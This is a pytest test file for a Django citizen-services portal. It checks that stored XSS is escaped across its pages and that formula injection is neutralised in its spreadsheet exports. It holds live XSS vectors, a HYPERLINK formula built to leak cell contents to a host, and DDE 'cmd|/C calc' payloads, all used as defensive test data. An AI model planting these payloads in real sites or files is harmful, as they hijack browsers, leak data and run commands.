"""T17: stored XSS and CSV/formula injection.

XSS vectors entered as an applicant's name, address, request, form answers, document title and feedback
are rendered in the applicant's pages, the workspace, the admin and the PDF slip: no page may hold a live
``<script>`` or ``on*=`` handler built from them (the HTML is parsed, not searched), and the escaped text is
there. Formula payloads (``=HYPERLINK(...)``, ``+cmd``, ``-1+1``, ``@SUM``) entered as names are neutralised
(a leading apostrophe) in every spreadsheet export: the tracking book (XLSX), the quality dashboard (XLSX),
the reconciliation mismatch list (CSV) and the admin's catalogue export (XLSX, whose import restores them).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import shutil
import subprocess
from html.parser import HTMLParser

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from tests.conftest import pdf_upload

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
IMG = '"><img src=x onerror=alert(1)>'
SVG = "'><svg onload=alert(1)>"
XSS = [SCRIPT, IMG, SVG]
FORMULAS = [
    '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)*cmd|'/C calc'!A0",
]


class LiveScriptFinder(HTMLParser):
    """Collect script elements and on* attributes that carry the payload's alert(1)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.live: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            if name.lower().startswith("on") and "alert(1)" in (value or ""):
                self.live.append(f"<{tag} {name}={value}>")
        if tag in ("img", "svg") and any(n.lower() == "onerror" or n.lower() == "onload" for n, _v in attrs):
            self.live.append(f"<{tag} {attrs}>")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and "alert(1)" in data:
            self.live.append(f"<script>{data}</script>")


def live_scripts(html: str) -> list[str]:
    finder = LiveScriptFinder()
    finder.feed(html)
    return finder.live


def assert_escaped(response, *, expect: list[str]) -> None:
    assert response.status_code == 200, (response.status_code, response.content[:300])
    html = response.content.decode()
    assert live_scripts(html) == [], response.request["PATH_INFO"]
    for payload in expect:  # the text itself is shown (escaped), so the test did reach it
        escaped = payload.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        escaped = escaped.replace('"', "&quot;").replace("'", "&#x27;")
        assert escaped in html, (response.request["PATH_INFO"], payload)


@pytest.fixture
def hostile_dossier(procedure, citizen_nhung):
    from procedures.services import ApplicantData, dossier_submit
    from procedures.uploads import check_upload

    return dossier_submit(
        procedure=procedure,
        applicant_user=citizen_nhung,
        applicant=ApplicantData(
            name=f"Nhung {SCRIPT}",
            national_id="001195012345",
            address=f"Số 1 {IMG}",
            phone="0912345678",
            email="nhung@example.vn",
        ),
        request_summary=f"Đề nghị {SVG} {SCRIPT}",
        upload=check_upload(pdf_upload()),
        document_title=f"Đơn {IMG}",
        dossier_fields={"form_data": {"ghi_chu": SCRIPT, "ly_do": IMG}},
    )


@pytest.fixture
def hostile_received(hostile_dossier, clerk_lan, django_capture_on_commit_callbacks):
    from procedures.services import dossier_receive

    with django_capture_on_commit_callbacks(execute=False):
        return dossier_receive(dossier_id=hostile_dossier.pk, actor=clerk_lan)


def test_xss_in_applicant_data_is_escaped_on_the_applicants_pages(client, hostile_dossier, citizen_nhung):
    from citizens.followup import feedback_send

    client.force_login(citizen_nhung)
    assert_escaped(client.get(reverse("citizens:my-dossiers")), expect=[])
    assert_escaped(client.get(reverse("citizens:dossier", args=[hostile_dossier.reference])), expect=[SCRIPT, IMG])
    feedback = feedback_send(
        user=citizen_nhung, kind="feedback", subject=f"Phản ánh {SCRIPT}", body=IMG, dossier=hostile_dossier
    )
    assert_escaped(client.get(reverse("citizens:feedback-detail", args=[feedback.pk])), expect=[SCRIPT, IMG])
    assert_escaped(client.get(reverse("citizens:feedback")), expect=[])


def test_xss_in_applicant_data_is_escaped_in_the_workspace(client, hostile_dossier, clerk_lan):
    client.force_login(clerk_lan)
    assert_escaped(client.get(reverse("workspace:queue", args=["to_receive"])), expect=[SCRIPT])
    assert_escaped(client.get(reverse("workspace:dossier", args=[hostile_dossier.pk])), expect=[SCRIPT, IMG])


def test_xss_in_applicant_data_is_escaped_in_the_admin(client, hostile_dossier, admin_user, citizen_nhung):
    from citizens.followup import feedback_send

    feedback = feedback_send(user=citizen_nhung, kind="feedback", subject=SCRIPT, body=IMG, dossier=hostile_dossier)
    client.force_login(admin_user)
    assert_escaped(client.get("/admin/procedures/dossier/"), expect=[])
    assert_escaped(client.get(f"/admin/procedures/dossier/{hostile_dossier.pk}/change/"), expect=[])
    assert_escaped(client.get(f"/admin/citizens/feedback/{feedback.pk}/change/"), expect=[SCRIPT])


def test_xss_in_applicant_data_is_plain_text_in_the_pdf_slip(hostile_received, tmp_path):
    from procedures.documents import dossier_receipt_get_or_render

    if not shutil.which("pdftotext"):
        pytest.fail("pdftotext not installed (apt-get install poppler-utils)")
    path = tmp_path / "slip.pdf"
    path.write_bytes(dossier_receipt_get_or_render(dossier_id=hostile_received.pk).file.read())
    text = subprocess.run(["pdftotext", str(path), "-"], check=True, capture_output=True).stdout.decode()
    # Escaped HTML is printed as the characters typed; had it been markup, WeasyPrint would have dropped it.
    assert SCRIPT in " ".join(text.split())


# --- CSV/formula injection ---------------------------------------------------------------------------


def test_the_cell_rule_prefixes_every_formula_trigger_and_leaves_the_rest():
    from portal.spreadsheets import cell_neutralise, cell_restore

    for payload in [*FORMULAS, "\t=1+1", "\r=1+1"]:
        assert cell_neutralise(payload) == "'" + payload
        assert cell_restore(cell_neutralise(payload)) == payload
    for value in ["Nguyễn Thị Hồng Nhung", "'quoted", 42, -7, 3.5, None, dt.date(2026, 1, 1), ""]:
        assert cell_neutralise(value) == value


def _assert_neutralised(values: list, payloads: list[str]) -> None:
    for payload in payloads:
        cells = [v for v in values if isinstance(v, str) and payload in v]
        assert cells, payload
        assert all(not v.startswith(("=", "+", "-", "@")) for v in cells), cells


def test_formulas_in_applicant_names_are_neutralised_in_the_tracking_book(
    procedure, citizen_nhung, clerk_lan, django_capture_on_commit_callbacks
):
    from procedures import tracking_book
    from procedures.services import ApplicantData, dossier_receive, dossier_submit
    from procedures.uploads import check_upload

    with django_capture_on_commit_callbacks(execute=False):
        for payload in FORMULAS:
            dossier = dossier_submit(
                procedure=procedure,
                applicant_user=citizen_nhung,
                applicant=ApplicantData(
                    name=payload, national_id="001195012345", address=payload, phone="0912345678", email=""
                ),
                request_summary="Đề nghị",
                upload=check_upload(pdf_upload()),
                document_title="Đơn",
            )
            dossier_receive(dossier_id=dossier.pk, actor=clerk_lan)
    today = timezone.localdate()
    with django_capture_on_commit_callbacks(execute=True):
        job = tracking_book.tracking_book_export_request(
            actor=clerk_lan,
            kind="xlsx",
            date_from=today - dt.timedelta(days=1),
            date_to=today,
            sector="",
            language="en",
        )
    job.refresh_from_db()
    assert job.status == "done", job.status
    workbook = load_workbook(io.BytesIO(job.file.read()))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # openpyxl reads no formula back
    _assert_neutralised([c.value for c in cells], FORMULAS)


def test_formulas_in_names_are_neutralised_in_the_quality_export(client, agency, procedure, admin_user):
    from procedures.models import Procedure

    Procedure.objects.filter(pk=procedure.pk).update(name=FORMULAS[0], code="=1+1")
    agency.name = FORMULAS[3]
    agency.save()
    client.force_login(admin_user)
    response = client.get(reverse("quality:export-xlsx"))
    assert response.status_code == 200, response.content[:300]
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [c for sheet in workbook for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(not str(c.value).startswith(("=", "+", "-", "@")) for c in cells if isinstance(c.value, str))


def test_formulas_in_uploaded_names_are_neutralised_in_the_reconciliation_export(
    client, admin_user, population_registry_simulator, django_capture_on_commit_callbacks
):
    from integrations.gateway_models import ReconciliationJob
    from integrations.reconciliation import InputRecord, reconciliation_job_from_records

    records = [
        InputRecord(row_no=i, reference=p, personal_id="1", full_name=p, birth_date="1990", facility=p)
        for i, p in enumerate(FORMULAS, start=1)
    ]
    with django_capture_on_commit_callbacks(execute=True):
        job = reconciliation_job_from_records(name="Danh sách", purpose="Đối soát", records=records)
    job = ReconciliationJob.objects.get(pk=job.pk)
    client.force_login(admin_user)
    response = client.get(reverse("reconciliation:export", args=[job.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode().lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))
    values = [v for row in rows[1:] for v in row]
    assert len(rows) == 1 + len(FORMULAS), rows  # every record is a mismatch here (invalid personal ID)
    _assert_neutralised(values, FORMULAS)


def test_formulas_in_the_catalogue_are_neutralised_in_its_xlsx_export_and_restored_on_import(procedure):
    from procedures.catalogue_io import catalogue_export, catalogue_import
    from procedures.models import Procedure

    Procedure.objects.filter(pk=procedure.pk).update(name=FORMULAS[0], description=FORMULAS[2])
    content, _type = catalogue_export(Procedure.objects.all(), fmt="xlsx")
    sheet = load_workbook(io.BytesIO(content)).active
    cells = [c for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    _assert_neutralised([c.value for c in cells], [FORMULAS[0], FORMULAS[2]])
    report = catalogue_import(content=content, filename="catalogue.xlsx")
    assert not report.errors, report.errors
    procedure.refresh_from_db()
    assert (procedure.name, procedure.description) == (FORMULAS[0], FORMULAS[2])
